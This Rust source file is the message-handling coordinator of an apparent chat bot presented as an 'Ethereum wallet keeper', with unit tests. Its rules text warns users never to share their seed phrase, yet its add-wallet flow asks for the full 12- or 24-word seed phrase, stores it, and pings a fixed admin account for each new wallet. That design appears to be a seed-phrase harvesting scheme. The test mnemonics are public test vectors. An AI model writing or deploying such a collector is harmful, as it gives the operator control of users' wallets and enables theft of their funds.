//! Conversation Coordinator
//!
//! Orchestrates per-user FSM transitions: interprets the next inbound
//! message according to the user's pending state, mutates the record
//! store or calls the balance collaborator, and emits exactly one reply.

use std::sync::Arc;

use dashmap::DashMap;
use tokio::sync::Mutex;
use tracing::{error, info, warn};

use super::notify::Notifier;
use super::state::ConversationState;
use super::types::{Command, Inbound, Keyboard, Reply};
use crate::chain::BalanceLookup;
use crate::store::{RecordStore, UserId};

const RULES_TEXT: &str = "Rules:\n\
    1. Never share your seed phrase with third parties\n\
    2. This bot never asks for your private keys\n\
    3. Use test wallets only for demonstration\n\n\
    Welcome to the Ethereum wallet keeper. Use the menu buttons.";

const HELP_TEXT: &str = "Please use the menu buttons to interact with the bot.";

const RETRY_TEXT: &str = "Something went wrong. Please try again later.";

/// Conversation Coordinator - drives the per-user FSM.
pub struct Coordinator {
    store: Arc<RecordStore>,
    lookup: Arc<dyn BalanceLookup>,
    notifier: Arc<dyn Notifier>,
    admin: UserId,
    /// Per-user conversation state. The inner mutex is held for a full
    /// transition, so one user's messages are processed in arrival order
    /// while distinct users proceed concurrently.
    sessions: DashMap<UserId, Arc<Mutex<ConversationState>>>,
}

impl Coordinator {
    pub fn new(
        store: Arc<RecordStore>,
        lookup: Arc<dyn BalanceLookup>,
        notifier: Arc<dyn Notifier>,
        admin: UserId,
    ) -> Self {
        Self {
            store,
            lookup,
            notifier,
            admin,
            sessions: DashMap::new(),
        }
    }

    /// Current state of a user's conversation. Unknown users are idle.
    pub async fn state(&self, user: UserId) -> ConversationState {
        let cell = match self.sessions.get(&user) {
            Some(cell) => cell.clone(),
            None => return ConversationState::Idle,
        };
        *cell.lock().await
    }

    /// Process one inbound message and produce the single reply for it.
    ///
    /// Never fails: every internal error is logged and mapped to a
    /// user-visible reply, and the user always lands back on `IDLE`
    /// unless this very message opened a new flow.
    pub async fn handle(&self, msg: Inbound) -> Reply {
        let cell = self
            .sessions
            .entry(msg.user)
            .or_insert_with(|| Arc::new(Mutex::new(ConversationState::Idle)))
            .clone();
        let mut state = cell.lock().await;

        let text = msg.text.trim();

        // A recognized command always wins, even over a pending flow.
        if let Some(cmd) = Command::parse(text) {
            if !state.is_idle() {
                info!(user = msg.user, state = %*state, "Pending flow overridden by command");
            }
            *state = ConversationState::Idle;
            return self.handle_command(msg.user, cmd, &mut state).await;
        }

        match *state {
            ConversationState::Idle => Reply::menu(HELP_TEXT),
            ConversationState::AwaitingSeedPhrase => {
                *state = ConversationState::Idle;
                self.finish_add_wallet(msg.user, text).await
            }
            ConversationState::AwaitingAddress => {
                *state = ConversationState::Idle;
                self.finish_check_balance(msg.user, text).await
            }
            ConversationState::AwaitingRemovePosition => {
                *state = ConversationState::Idle;
                self.finish_remove_wallet(msg.user, text).await
            }
        }
    }

    async fn handle_command(
        &self,
        user: UserId,
        cmd: Command,
        state: &mut ConversationState,
    ) -> Reply {
        match cmd {
            Command::Start | Command::Help => match self.store.register_user(user).await {
                Ok(_) => Reply::menu(RULES_TEXT),
                Err(e) => {
                    error!(user = user, error = %e, "Failed to register user");
                    Reply::menu(RETRY_TEXT)
                }
            },

            Command::MyWallets => match self.store.list_wallets(user).await {
                Ok(records) if records.is_empty() => {
                    Reply::menu("You have not added any wallets yet.")
                }
                Ok(records) => Reply::menu(format!("Your wallets:\n{}", wallet_list(&records))),
                Err(e) => {
                    error!(user = user, error = %e, "Failed to list wallets");
                    Reply::menu(RETRY_TEXT)
                }
            },

            Command::AddWallet => {
                *state = ConversationState::AwaitingSeedPhrase;
                Reply::plain("Send the seed phrase to add (BIP39 format, 12 or 24 words).")
            }

            Command::RemoveWallet => match self.store.list_wallets(user).await {
                Ok(records) if records.is_empty() => {
                    Reply::menu("You have not added any wallets yet.")
                }
                Ok(records) => {
                    *state = ConversationState::AwaitingRemovePosition;
                    Reply {
                        text: format!(
                            "Your wallets:\n{}\n\nSend the number of the wallet to remove:",
                            wallet_list(&records)
                        ),
                        keyboard: Keyboard::RemoveMenu,
                    }
                }
                Err(e) => {
                    error!(user = user, error = %e, "Failed to list wallets");
                    Reply::menu(RETRY_TEXT)
                }
            },

            Command::CheckBalance => {
                *state = ConversationState::AwaitingAddress;
                Reply::plain("Send an Ethereum address (starts with 0x):")
            }
        }
    }

    /// Exit from `AWAITING_SEED_PHRASE`.
    async fn finish_add_wallet(&self, user: UserId, text: &str) -> Reply {
        let words: Vec<&str> = text.split_whitespace().collect();
        if words.len() != 12 && words.len() != 24 {
            return Reply::menu("Invalid format. A seed phrase must contain 12 or 24 words.");
        }

        // Re-join so the stored line is single-spaced and newline-free.
        let phrase = words.join(" ");
        match self.store.add_wallet(user, &phrase).await {
            Ok(record) => {
                info!(user = user, position = record.position, "User added a wallet");

                let note = format!("New wallet added by user {}", user);
                if let Err(e) = self.notifier.notify(self.admin, &note).await {
                    // Best effort only; the wallet is already stored.
                    warn!(user = user, error = %e, "Admin notification failed");
                }

                Reply::menu("Wallet saved.")
            }
            Err(e) => {
                error!(user = user, error = %e, "Failed to store wallet");
                Reply::menu(RETRY_TEXT)
            }
        }
    }

    /// Exit from `AWAITING_ADDRESS`.
    async fn finish_check_balance(&self, user: UserId, text: &str) -> Reply {
        if !self.lookup.is_valid_address(text) {
            return Reply::menu(
                "Invalid Ethereum address. It must start with 0x and be 42 characters long.",
            );
        }

        match self.lookup.get_balance(text).await {
            Ok(eth) => Reply::menu(format!("Balance of {}:\n{} ETH", text, eth)),
            Err(e) => {
                warn!(user = user, error = %e, "Balance lookup failed");
                Reply::menu("Could not check the balance right now. Please try again later.")
            }
        }
    }

    /// Exit from `AWAITING_REMOVE_POSITION`. Wallet numbers are 1-based,
    /// matching the listing shown to the user.
    async fn finish_remove_wallet(&self, user: UserId, text: &str) -> Reply {
        let number: usize = match text.parse() {
            Ok(n) if n >= 1 => n,
            _ => return Reply::menu("Send a wallet number from the list, e.g. 1."),
        };

        match self.store.delete_wallet(user, number - 1).await {
            Ok(true) => Reply::menu(format!("Wallet {} removed.", number)),
            Ok(false) => Reply::menu(format!("There is no wallet number {}.", number)),
            Err(e) => {
                error!(user = user, error = %e, "Failed to remove wallet");
                Reply::menu(RETRY_TEXT)
            }
        }
    }
}

/// Numbered listing with truncated secret previews; full phrases are never
/// echoed back into the chat.
fn wallet_list(records: &[crate::store::WalletRecord]) -> String {
    records
        .iter()
        .map(|r| {
            let preview: String = r.secret.chars().take(10).collect();
            format!("{}. {}...", r.position + 1, preview)
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::LookupError;
    use crate::coordinator::NotifyError;
    use crate::coordinator::types::{
        BTN_ADD_WALLET, BTN_CHECK_BALANCE, BTN_MY_WALLETS, BTN_REMOVE_WALLET,
    };
    use async_trait::async_trait;
    use rust_decimal::Decimal;
    use std::sync::atomic::{AtomicUsize, Ordering};

    struct MockLookup {
        balance: Option<Decimal>,
        calls: AtomicUsize,
    }

    impl MockLookup {
        fn with_balance(eth: Decimal) -> Self {
            Self {
                balance: Some(eth),
                calls: AtomicUsize::new(0),
            }
        }

        fn failing() -> Self {
            Self {
                balance: None,
                calls: AtomicUsize::new(0),
            }
        }
    }

    #[async_trait]
    impl BalanceLookup for MockLookup {
        async fn get_balance(&self, _address: &str) -> Result<Decimal, LookupError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            self.balance.ok_or(LookupError::Timeout)
        }
    }

    struct CountingNotifier {
        count: AtomicUsize,
        fail: bool,
    }

    #[async_trait]
    impl Notifier for CountingNotifier {
        async fn notify(&self, _user: UserId, _text: &str) -> Result<(), NotifyError> {
            self.count.fetch_add(1, Ordering::SeqCst);
            if self.fail {
                Err(NotifyError("mock down".into()))
            } else {
                Ok(())
            }
        }
    }

    struct Fixture {
        coordinator: Coordinator,
        store: Arc<RecordStore>,
        lookup: Arc<MockLookup>,
        notifier: Arc<CountingNotifier>,
    }

    fn fixture(name: &str, lookup: MockLookup, notify_fail: bool) -> Fixture {
        let dir = format!("target/test_coord_{}_{}", name, std::process::id());
        let _ = std::fs::remove_dir_all(&dir);
        let store = Arc::new(RecordStore::open(&dir).unwrap());
        let lookup = Arc::new(lookup);
        let notifier = Arc::new(CountingNotifier {
            count: AtomicUsize::new(0),
            fail: notify_fail,
        });
        let coordinator = Coordinator::new(
            store.clone(),
            lookup.clone(),
            notifier.clone(),
            42,
        );
        Fixture {
            coordinator,
            store,
            lookup,
            notifier,
        }
    }

    async fn send(f: &Fixture, user: UserId, text: &str) -> Reply {
        f.coordinator
            .handle(Inbound {
                user,
                text: text.to_string(),
            })
            .await
    }

    const PHRASE_12: &str =
        "abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about";

    #[tokio::test]
    async fn test_add_wallet_rejects_short_phrase() {
        let f = fixture("short_phrase", MockLookup::failing(), false);

        send(&f, 1, BTN_ADD_WALLET).await;
        let reply = send(&f, 1, "one two three four five six seven eight nine ten eleven").await;

        assert!(reply.text.contains("12 or 24 words"));
        assert!(f.store.list_wallets(1).await.unwrap().is_empty());
        assert_eq!(f.notifier.count.load(Ordering::SeqCst), 0);

        // Flow exited: the same phrase while idle gets the help reply.
        let reply = send(&f, 1, "one two three").await;
        assert_eq!(reply.text, HELP_TEXT);
    }

    #[tokio::test]
    async fn test_add_wallet_happy_path_notifies_admin_once() {
        let f = fixture("happy_add", MockLookup::failing(), false);

        let prompt = send(&f, 1, BTN_ADD_WALLET).await;
        assert_eq!(prompt.keyboard, Keyboard::None);
        assert_eq!(
            f.coordinator.state(1).await,
            ConversationState::AwaitingSeedPhrase
        );

        let reply = send(&f, 1, PHRASE_12).await;
        assert_eq!(reply.text, "Wallet saved.");
        assert_eq!(reply.keyboard, Keyboard::MainMenu);
        assert!(f.coordinator.state(1).await.is_idle());

        let records = f.store.list_wallets(1).await.unwrap();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].secret, PHRASE_12);
        assert_eq!(f.notifier.count.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_notify_failure_does_not_roll_back_add() {
        let f = fixture("notify_fail", MockLookup::failing(), true);

        send(&f, 1, BTN_ADD_WALLET).await;
        let reply = send(&f, 1, PHRASE_12).await;

        assert_eq!(reply.text, "Wallet saved.");
        assert_eq!(f.store.list_wallets(1).await.unwrap().len(), 1);
    }

    #[tokio::test]
    async fn test_check_balance_invalid_address_skips_lookup() {
        let f = fixture("bad_address", MockLookup::with_balance(Decimal::ONE), false);

        send(&f, 1, BTN_CHECK_BALANCE).await;
        assert_eq!(
            f.coordinator.state(1).await,
            ConversationState::AwaitingAddress
        );

        let reply = send(&f, 1, "0xnot-an-address").await;
        assert!(reply.text.contains("Invalid Ethereum address"));
        assert_eq!(f.lookup.calls.load(Ordering::SeqCst), 0);
        assert!(f.coordinator.state(1).await.is_idle());
    }

    #[tokio::test]
    async fn test_check_balance_reports_value() {
        let f = fixture("good_balance", MockLookup::with_balance(Decimal::new(25, 1)), false);

        send(&f, 1, BTN_CHECK_BALANCE).await;
        let reply = send(&f, 1, "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045").await;

        assert!(reply.text.contains("2.5 ETH"));
        assert_eq!(f.lookup.calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_lookup_failure_returns_to_idle() {
        let f = fixture("lookup_fail", MockLookup::failing(), false);

        send(&f, 1, BTN_CHECK_BALANCE).await;
        let reply = send(&f, 1, "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045").await;
        assert!(reply.text.contains("try again later"));

        // Back to idle: plain text now gets the help reply.
        let reply = send(&f, 1, "anything").await;
        assert_eq!(reply.text, HELP_TEXT);
    }

    #[tokio::test]
    async fn test_command_overrides_pending_flow() {
        let f = fixture("override", MockLookup::failing(), false);

        send(&f, 1, BTN_ADD_WALLET).await;
        // User changed their mind mid-flow.
        let reply = send(&f, 1, BTN_MY_WALLETS).await;

        assert_eq!(reply.text, "You have not added any wallets yet.");
        assert!(f.store.list_wallets(1).await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_remove_wallet_flow() {
        let f = fixture("remove", MockLookup::failing(), false);

        send(&f, 1, BTN_ADD_WALLET).await;
        send(&f, 1, PHRASE_12).await;
        send(&f, 1, BTN_ADD_WALLET).await;
        send(
            &f,
            1,
            "legal winner thank year wave sausage worth useful legal winner thank yellow",
        )
        .await;

        let prompt = send(&f, 1, BTN_REMOVE_WALLET).await;
        assert_eq!(prompt.keyboard, Keyboard::RemoveMenu);
        assert!(prompt.text.contains("1. "));

        let reply = send(&f, 1, "1").await;
        assert_eq!(reply.text, "Wallet 1 removed.");

        let records = f.store.list_wallets(1).await.unwrap();
        assert_eq!(records.len(), 1);
        assert!(records[0].secret.starts_with("legal winner"));
        assert_eq!(records[0].position, 0);
    }

    #[tokio::test]
    async fn test_remove_wallet_out_of_range() {
        let f = fixture("remove_range", MockLookup::failing(), false);

        send(&f, 1, BTN_ADD_WALLET).await;
        send(&f, 1, PHRASE_12).await;

        send(&f, 1, BTN_REMOVE_WALLET).await;
        let reply = send(&f, 1, "5").await;
        assert_eq!(reply.text, "There is no wallet number 5.");
        assert_eq!(f.store.list_wallets(1).await.unwrap().len(), 1);
    }

    #[tokio::test]
    async fn test_start_registers_user_idempotently() {
        let f = fixture("start", MockLookup::failing(), false);

        send(&f, 7, "/start").await;
        send(&f, 7, "/start").await;
        send(&f, 7, "/help").await;

        assert_eq!(f.store.user_count().await.unwrap(), 1);
    }
}
